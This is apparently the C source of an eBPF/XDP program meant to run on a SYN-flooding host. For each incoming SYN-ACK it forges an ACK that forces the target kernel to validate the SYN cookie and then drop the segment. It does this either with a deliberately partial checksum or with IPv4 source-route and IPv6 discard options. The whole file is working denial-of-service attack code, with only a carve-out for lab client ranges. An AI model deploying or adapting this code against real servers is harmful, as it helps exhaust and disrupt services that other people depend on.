// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * xdp_ghost: acknowledge each SYN-ACK that arrives, in a way that the cookie in it is
 * proved and the kernel drops the segment. On the interface of who floods.
 *
 *   xdp.partial   the checksum is that of the pseudo header alone
 *   xdp.option    eight bytes that kernels refuse: IPv4 source route (RFC 7126
 *                 4.3), IPv6 destination option that says "discard" (RFC 8200 4.2)
 *
 * The SYN-ACK must have 20 bytes of TCP options, so that these find room. Those to
 * 10.77.0.0/16 and fd77::/16 are left alone: there are the real clients.
 */
#include <stdbool.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/in.h>
#include <linux/ip.h>
#include <linux/ipv6.h>
#include <linux/tcp.h>
#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>

#define OPTIONS	8	/* bytes before the TCP header */

char LICENSE[] SEC("license") = "Dual BSD/GPL";

struct segment {
	struct ethhdr *eth;
	void *ip, *end;
	struct tcphdr *tcp;
	bool ip6;
};

static __always_inline bool is_syn_ack(struct xdp_md *ctx, struct segment *s)
{
	struct iphdr *ip4;

	s->eth = (void *)(long)ctx->data;
	s->end = (void *)(long)ctx->data_end;
	s->ip = s->eth + 1;
	ip4 = s->ip;
	if ((void *)(ip4 + 1) > s->end)
		return false;
	s->ip6 = s->eth->h_proto == bpf_htons(ETH_P_IPV6);
	s->tcp = s->ip + (s->ip6 ? sizeof(struct ipv6hdr) : sizeof(*ip4));
	return (void *)(s->tcp + 1) + 20 <= s->end && s->tcp->syn &&
	       s->tcp->ack && s->tcp->doff == 10 &&
	       (s->ip6 ? ((struct ipv6hdr *)s->ip)->nexthdr == IPPROTO_TCP
		       : s->eth->h_proto == bpf_htons(ETH_P_IP) &&
				 ip4->protocol == IPPROTO_TCP);
}

static __always_inline bool is_for_real(const struct segment *s)
{
	const struct ipv6hdr *ip6 = s->ip;
	const struct iphdr *ip4 = s->ip;

	if (!s->ip6)
		return bpf_ntohl(ip4->daddr) >> 16 == 0x0a4d;
	return (void *)(ip6 + 1) > s->end ||
	       bpf_ntohs(ip6->daddr.in6_u.u6_addr16[0]) == 0xfd77;
}

static __always_inline __u32 sum_words(const void *from, int words, __u32 sum)
{
	const __u16 *word = from;

	for (int i = 0; i < words; i++)
		sum += word[i];
	return sum;
}

static __always_inline __u16 fold(__u32 sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	return (sum & 0xffff) + (sum >> 16);
}

static __always_inline void swap_macs(struct ethhdr *eth)
{
	__u8 mac[ETH_ALEN];

	__builtin_memcpy(mac, eth->h_source, ETH_ALEN);
	__builtin_memcpy(eth->h_source, eth->h_dest, ETH_ALEN);
	__builtin_memcpy(eth->h_dest, mac, ETH_ALEN);
}

static __always_inline void swap_addresses(struct segment *s)
{
	struct ipv6hdr *ip6 = s->ip;
	struct iphdr *ip4 = s->ip;
	struct in6_addr addr6;
	__be32 addr4;

	if (s->ip6 && (void *)(ip6 + 1) <= s->end) {
		addr6 = ip6->saddr;
		ip6->saddr = ip6->daddr;
		ip6->daddr = addr6;
	} else if (!s->ip6) {
		addr4 = ip4->saddr;
		ip4->saddr = ip4->daddr;
		ip4->daddr = addr4;
	}
}

/* TSval and TSecr of the 20 bytes that Linux and handfast send, or of none. */
static __always_inline __u32 *timestamps(struct tcphdr *tcp)
{
	__u8 *opt = (void *)(tcp + 1);

	for (int i = 4; i <= 8; i++)
		if (opt[i] == 8 && opt[i + 1] == 10)
			return (void *)&opt[i + 2];
	return NULL;
}

/* The ACK, with twelve bytes of options, at `tcp`. */
static __always_inline void ack_write(struct tcphdr *tcp,
				      const struct tcphdr *syn_ack, __u32 tsval,
				      __u32 tsecr)
{
	struct tcphdr ack = {
		.source = syn_ack->dest,
		.dest = syn_ack->source,
		.seq = syn_ack->ack_seq,
		.ack_seq = bpf_htonl(bpf_ntohl(syn_ack->seq) + 1),
		.doff = 8,
		.ack = 1,
		.window = bpf_htons(64240),
	};
	__u32 *opt = (void *)(tcp + 1);

	*tcp = ack;
	opt[0] = bpf_htonl(0x0101080a);
	opt[1] = tsecr;
	opt[2] = tsval;
}

/* The pseudo header's sum, of a segment of `len` bytes. */
static __always_inline __u32 sum_pseudo(const struct segment *s, __u32 len)
{
	__u32 sum = bpf_htons(IPPROTO_TCP) + bpf_htons(len);

	return s->ip6 ? sum_words(s->ip + 8, 16, sum)
		      : sum_words(s->ip + 12, 4, sum);
}

static __always_inline int answer(struct xdp_md *ctx, bool partial)
{
	__u32 before = partial ? 0 : OPTIONS, sum, *ts, tsval, tsecr;
	struct segment s;
	struct ipv6hdr *ip6;
	struct iphdr *ip4;
	struct tcphdr *tcp, syn_ack;
	__u8 *option;

	if (!is_syn_ack(ctx, &s) || is_for_real(&s))
		return XDP_PASS;
	ts = timestamps(s.tcp);
	if (!ts)
		return XDP_PASS;
	tsval = ts[0];
	tsecr = ts[1];
	syn_ack = *s.tcp;
	swap_macs(s.eth);
	swap_addresses(&s);
	option = (void *)s.tcp;
	tcp = (void *)s.tcp + before;
	if ((void *)(tcp + 1) + 12 > s.end)
		return XDP_DROP;
	ack_write(tcp, &syn_ack, tsval, tsecr);
	sum = sum_pseudo(&s, 32);
	tcp->check = partial ? fold(sum) : ~fold(sum_words(tcp, 16, sum));
	ip6 = s.ip;
	ip4 = s.ip;
	if (s.ip6) {
		if ((void *)(ip6 + 1) > s.end)
			return XDP_DROP;
		ip6->payload_len = bpf_htons(32 + before);
		if (before) {
			ip6->nexthdr = 60;
			option[0] = IPPROTO_TCP;
			option[1] = 0;
			option[2] = 0x5e;	/* unknown: discard */
			option[3] = 4;
			*(__u32 *)&option[4] = 0;
		}
		return XDP_TX;
	}
	if (before) {
		ip4->ihl = 7;
		option[0] = 131;		/* loose source route */
		option[1] = 7;
		option[2] = 4;
		__builtin_memcpy(&option[3], &ip4->daddr, 4);
		option[7] = 0;
	}
	ip4->tot_len = bpf_htons(20 + before + 32);
	ip4->check = 0;
	ip4->check = ~fold(sum_words(ip4, before ? 14 : 10, 0));
	return XDP_TX;
}

SEC("xdp.partial")
int xdp_partial(struct xdp_md *ctx)
{
	return answer(ctx, true);
}

SEC("xdp.option")
int xdp_option(struct xdp_md *ctx)
{
	return answer(ctx, false);
}
